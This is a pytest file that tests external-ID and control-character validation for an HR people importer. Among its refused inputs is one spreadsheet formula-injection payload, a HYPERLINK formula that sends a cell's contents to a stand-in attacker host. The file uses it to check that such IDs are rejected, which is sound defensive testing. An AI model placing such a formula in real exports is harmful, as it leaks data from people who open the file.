"""The rules for text that comes in (sociograph.ingest.text): the external-id character set and
control characters, as the importers apply them."""

from __future__ import annotations

import pytest

from devtools.sociopatterns import external_id as sociopatterns_id
from devtools.synthetic import build_organization
from people.importers import RowError, parse_person_row
from sociograph.ingest.text import control_character_problem, external_id_problem

REAL_IDS = ("E00123", "00012345", "jane.doe@corp.example", "emp_7", "corp:jdoe", "ou/a+b-c", "_x")
REFUSED_IDS = (
    '=HYPERLINK("http://evil.example/?leak="&B2,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "E 1",
    "E1;E2",
    "E1,E2",
    "Zoë",
    "'quoted",
    ".hidden",
)


@pytest.mark.parametrize("text", REAL_IDS)
def test_real_hris_ids_are_accepted(text: str) -> None:
    assert external_id_problem(text) is None


@pytest.mark.parametrize("text", REFUSED_IDS)
def test_ids_outside_the_safe_set_are_refused(text: str) -> None:
    problem = external_id_problem(text)
    assert problem is not None
    assert "is not a valid external id" in problem


def test_ids_of_the_generator_and_the_sociopatterns_reader_are_accepted() -> None:
    org = build_organization(300, seed=1)
    assert all(external_id_problem(person.external_id) is None for person in org.people)
    assert external_id_problem(sociopatterns_id("InVS15", 1201)) is None


def test_an_imported_person_with_a_formula_id_is_a_line_error() -> None:
    row = {
        "external_id": "=1+1",
        "name": "Eve",
        "email": "",
        "title": "",
        "manager_external_id": "",
        "contexts": "",
    }
    with pytest.raises(RowError, match=r"^external_id: '=1\+1' is not a valid external id"):
        parse_person_row(row)


@pytest.mark.parametrize(
    ("text", "multiline", "problem"),
    [
        ("plain text", False, None),
        ("a\x00b", False, "contains a control character (U+0000)"),
        ("a\tb", False, "contains a control character (U+0009)"),
        ("a\tb\r\nc", True, None),
        ("a\x1bb", True, "contains a control character (U+001B)"),
        ("a\x7fb", True, "contains a control character (U+007F)"),
        ("Zoë 中文 😀", False, None),
    ],
)
def test_control_characters(text: str, multiline: bool, problem: str | None) -> None:
    assert control_character_problem(text, multiline=multiline) == problem
